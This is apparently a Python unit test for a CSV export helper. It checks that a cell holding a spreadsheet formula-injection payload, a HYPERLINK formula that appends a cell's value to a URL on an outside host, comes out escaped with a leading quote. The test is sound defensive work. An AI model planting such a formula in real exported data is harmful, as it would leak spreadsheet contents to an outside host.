"""Tables as CSV: what a team wrote is no formula in a spreadsheet."""

import csv
import io

from metaserver.web.ui.tables import lines


def test_a_csv_has_no_formula() -> None:
    attack = '=HYPERLINK("http://x/?"&A1,"see")'
    written = lines(["run", "f"], [[attack, "-0.5"], ["a\tb", "0.25"]])
    assert list(csv.reader(io.StringIO(written))) == [
        ["run", "f"], [f"'{attack}", "-0.5"], ["a\tb", "0.25"],
    ]  # fmt: skip
